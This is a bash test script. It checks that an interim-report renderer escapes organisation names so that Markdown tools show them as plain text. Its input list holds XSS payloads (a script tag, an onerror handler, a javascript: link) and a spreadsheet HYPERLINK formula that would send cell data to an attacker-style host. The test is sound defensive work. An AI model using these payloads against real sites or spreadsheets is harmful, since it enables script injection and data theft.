#!/usr/bin/env bash
# What people call things makes nothing of an interim report but text, whichever of two readers of Markdown shows it.
. "$(dirname "$0")/tap.bash"
plan 8

scratch=$(mktemp -d)
trap 'rm -rf -- "$scratch"' EXIT

# Whatever is said between the lines below is an organisation's name, a title, a label, a cell and a note.
cat >"$scratch/names" <<'NAMES'
Income support\
Housing\| 1 | 2 | 3 | 4
\\| a | b
\\\| a | b
| a | b |
`a | b`
<script>alert(1)</script> ![x](http://evil.example/p.png) [click](javascript:alert(1))
<img src=x onerror=alert(1)>
<!-- comment --> <![CDATA[x]]> <?php ?> <!DOCTYPE html>
\<b\> \[x\](y) \`z\`
=HYPERLINK("http://evil.example/?"&A1,"open")
see www.evil.example, WWW.evil.example, https://evil.example/a_b_c, ftp://evil.example and HTTPS://EVIL.example
<http://evil.example>
*bold* **bold** _em_ __strong__ ~~gone~~ ~gone~ `code` ``code`` x^2^ $x$
&lt;b&gt; &#60;b&#62; &copy; R&D
# heading
## heading ##
- item
+ item
* item
1. item
1) item
> quote
---
***
===
: definition
~~~ fence
``` fence
[reference]: http://evil.example
[^1] and ^[note] [[wiki]] {#id .class}
O'Hara 100 %_ "quoted"
Räksmörgås 経済学
NAMES
count=$(wc -l <"$scratch/names")

# One report for each; and how many lines say what must be shown, as it must be shown.
sql --set=names="$(cat "$scratch/names")" >"$scratch/report.md" <<'SQL'
SELECT render_interim_report('{"words": {"title": "Interim report of %1$s as of %2$s", "version": "Version %1$s, published on %2$s.", "rounding": "Money in %1$s."}, "style": {"money_in_words": "thousands"}}'::jsonb
       || jsonb_build_object('name', n, 'as_of', '2023-04-30', 'sections', jsonb_build_array(jsonb_build_object(
           'title', n, 'note', n, 'columns', jsonb_build_array(jsonb_build_array('a', n, 'text'), '["b", "Money", "money"]'::jsonb, '["c", "C", "text"]'::jsonb),
           'rows', jsonb_build_array(jsonb_build_object('a', n, 'b', -1234567, 'c', n))))), 1, '2023-05-02', 'markdown')
FROM regexp_split_to_table(:'names', '\n') WITH ORDINALITY AS t(n, place) ORDER BY place
SQL
[ "$(grep -c '^# Interim report of' "$scratch/report.md")" = "$count" ]; ok $? "there is a report for each name"

# What it is made of, and how often.
elements() { grep -oE '<[a-zA-Z!?][^ >]*' | sort | uniq -c | awk -v count="$count" '{ printf "%s%s:%g", sep, substr($2, 2), $1 / count; sep = " " } END { print "" }'; }
only='h1:1 h2:1 p:3 table:1 tbody:1 td:3 th:3 thead:1 tr:2'

if ! command -v cmark-gfm >/dev/null; then
    for _ in {1..4}; do ok 0 "cmark-gfm says the same # SKIP it is not installed"; done
else
    cmark-gfm --unsafe --extension table --extension autolink --extension strikethrough --extension footnotes "$scratch/report.md" >"$scratch/html"
    ok $? "cmark-gfm reads it"
    [ "$(elements <"$scratch/html")" = "$only" ]; ok $? "to cmark-gfm no name is an element, a link, an image, a heading or a cell"
    # The first cell of each table, and each note, is the name itself.
    shown() { sed -nE "s:^<$1>(.*)</$1>\$:\1:p" "$scratch/html" | sed 's/&lt;/</g; s/&gt;/>/g; s/&quot;/"/g; s/&amp;/\&/g'; }
    diff "$scratch/names" <(shown p | grep -vE '^Version 1, published|^Money in thousands') && diff "$scratch/names" <(shown td | awk 'NR % 2 == 1')
    ok $? "and is shown as it is"
    # GitHub looks for addresses after everything else: nothing can be put before an @ that would not be seen.
    sql --command="SELECT interim_report_line('me@evil.example', 'markdown')" | cmark-gfm --extension autolink | grep -q 'href="mailto:me@evil.example"'
    ok $? "only an address with an @ becomes a link to write to"
fi

# There are other programs of this name.
if ! markdown -V 2>/dev/null | grep -q discount; then
    for _ in {1..3}; do ok 0 "discount says the same # SKIP it is not installed"; done
else
    markdown -f autolink,html "$scratch/report.md" >"$scratch/html"; ok $? "discount reads it"
    [ "$(elements <"$scratch/html")" = "$only" ]; ok $? "to discount no name is an element, a link, an image, a heading or a cell"
    [ "$(grep -c 'Income support' "$scratch/html")" = 6 ]; ok $? "and it is there"
fi
exit "$tap_status"
